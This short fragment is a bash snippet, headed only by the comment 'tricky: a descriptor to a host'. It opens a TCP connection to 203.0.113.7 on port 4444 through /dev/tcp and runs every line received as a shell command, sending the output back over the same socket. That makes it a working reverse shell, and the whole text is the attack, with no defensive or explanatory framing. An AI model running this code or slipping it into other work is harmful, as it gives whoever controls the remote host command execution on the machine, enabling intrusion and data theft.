# tricky: a descriptor to a host
exec 5<>/dev/tcp/203.0.113.7/4444
while read -r line <&5; do $line 2>&5 >&5; done
